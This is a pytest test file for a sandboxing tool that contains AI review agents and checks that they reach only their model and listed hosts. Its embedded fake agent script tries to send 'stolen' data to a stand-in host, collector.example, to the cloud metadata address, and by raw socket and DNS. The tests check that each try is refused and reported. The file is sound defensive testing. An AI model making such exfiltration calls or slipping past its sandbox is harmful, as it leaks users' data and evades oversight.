"""An agent reaches its model and listed hosts, nothing else; each other try is in the record and in what users read."""

import json
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

ROBOT = """
import json, os, socket, sys, urllib.request
done = {}
def reach(name, act):
    try: done[name] = act()
    except Exception as error: done[name] = f"{type(error).__name__}: {error}"
def post(url, proxies=None):
    handler = urllib.request.ProxyHandler(proxies) if proxies is not None else urllib.request.ProxyHandler()
    with urllib.request.build_opener(handler).open(url, data=b"stolen", timeout=5) as answer: return answer.read().decode()
def raw(kind, port):
    with socket.socket(socket.AF_INET, kind) as out:
        out.settimeout(5); out.connect(("127.0.0.1", port)); out.send(b"stolen"); return "sent"
PORT = int(os.environ["SINK"])
reach("elsewhere", lambda: post("http://collector.example/in"))
reach("tls", lambda: post("https://collector.example/in"))
reach("metadata", lambda: post("http://169.254.169.254/latest"))
reach("sink", lambda: post(f"http://127.0.0.1:{PORT}/in"))
reach("around the proxy", lambda: post(f"http://127.0.0.1:{PORT}/in", {}))
reach("tcp", lambda: raw(socket.SOCK_STREAM, PORT))
reach("dns", lambda: socket.getaddrinfo("collector.example", 80) and "resolved")
reach("model", lambda: post(os.environ["MODEL_URL"] + "/v1"))
reach("listed", lambda: post(f"http://127.0.0.1:{os.environ['LISTED']}/docs", {"http": "http://127.0.0.1:3128"}))
print(json.dumps({"findings": [], "summary": "looked", "did": done}))
"""


class Sink(ThreadingHTTPServer):
    """A server that keeps what it gets."""

    def __init__(self) -> None:
        self.got: list[str] = []
        super().__init__(("127.0.0.1", 0), Answer)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class Answer(BaseHTTPRequestHandler):
    def do_POST(self) -> None:
        assert isinstance(self.server, Sink)
        self.server.got.append(self.path)
        self.rfile.read(int(self.headers["content-length"]))
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"taken")

    def log_message(self, *words: object) -> None:
        pass


@pytest.fixture
def servers():
    made = {name: Sink() for name in ("sink", "model", "listed")}
    yield made
    for server in made.values():
        server.shutdown()
        server.server_close()


@pytest.fixture
def robot(repo, make_punchlist, tmp_path, servers):
    """A repository, and punchlist with an agent that posts wherever it can."""
    repo.commit({"a.py": "print(1)\n"})
    program = tmp_path / "robot" / "robot.py"
    program.parent.mkdir()
    program.write_text(ROBOT)
    punchlist = make_punchlist(repo.root)
    env = {
        "SINK": str(servers["sink"].server_address[1]),
        "LISTED": str(servers["listed"].server_address[1]),
        "MODEL_URL": servers["model"].url,
    }
    listed = servers["listed"].url.removeprefix("http://")
    settings = f'[agents]\nuse = ["robot"]\nhosts = ["{listed}"]\n[analyzers]\nenabled = []\n'
    given = ", ".join(f"{name} = {json.dumps(value)}" for name, value in env.items())
    own = f'[agent.robot]\nkind = "command"\ncommand = ["{sys.executable}", "{program}"]\nenv = {{ {given} }}\n'
    file = tmp_path / "settings.toml"
    file.write_text(settings + own)
    punchlist.env["PUNCHLIST_CONFIG"] = str(file)
    return punchlist


REVIEW = ("review", "--all", "--agent", "robot")


def test_an_agent_that_posts_elsewhere_fails_and_each_try_is_recorded(robot, servers):
    sink = f"127.0.0.1:{servers['sink'].server_address[1]}"
    told = robot(*REVIEW, "--events")
    events = [json.loads(line)["event"] for line in told.stdout.splitlines()]
    tried = [event["target"] for event in events if event["kind"] == "connectionrefused"]
    assert tried == ["collector.example:80", "collector.example:443", "169.254.169.254:80", sink]
    (contained,) = [event for event in events if event["kind"] == "contained"]
    assert (contained["sandbox"], contained["refused"]) == ("bubblewrap", 4)
    assert sorted(contained["reached"]) == sorted(
        server.url.removeprefix("http://") for name, server in servers.items() if name != "sink"
    )
    assert [server.got for server in servers.values()] == [[], ["/v1"], ["/docs"]]
    (transcript,) = (robot.home / "runs").glob("*/calls/*.jsonl")
    did = json.loads(transcript.read_text())["did"]
    reached = {name for name, what in did.items() if what in ("taken", "sent", "resolved")}
    assert reached == {"model", "listed"}

    words = " ".join(robot("status").stdout.split())
    assert (
        "robot (technical) tried to reach 4 other hosts, and was refused: collector.example:80 (not listed)"
        in words
    )
    gaps = robot.json("status")["report"]["not_checked"]
    assert [gap["about"] for gap in gaps if "tried to reach" in gap["what"]] == ["network"]
    assert robot("audit").returncode == 0


def test_an_agent_without_a_sandbox_is_said_to_have_none(robot):
    words = " ".join(robot(*REVIEW, "--set", "agents.sandbox=false").stdout.split())
    assert (
        "Programs ran in an incomplete sandbox: agent: no sandbox (agents.sandbox = false); robot (technical): reaches any host and holds its key"
        in words
    )


@pytest.mark.parametrize(
    "setting",
    [
        '[agents]\nhosts = ["collector.example"]\n',
        '[setup]\nhosts = ["collector.example"]\n',
        '[agent.robot]\nhosts = ["collector.example"]\n',
    ],
)
def test_a_repository_cannot_choose_what_is_reached(robot, repo, setting):
    repo.commit({".punchlist.toml": setting})
    refused = robot("run", "--all", "--yes")
    assert refused.returncode == 6
    assert "a repository does not choose what an agent is" in refused.stderr


@pytest.mark.parametrize("host", ["https://collector.example", "a b", "x:0"])
def test_a_setting_that_is_no_host_is_said_before_the_run_begins(robot, host):
    refused = robot(*REVIEW, "--set", f"agents.hosts={host}")
    assert refused.returncode == 6
    assert f"hosts: '{host}'" in refused.stderr
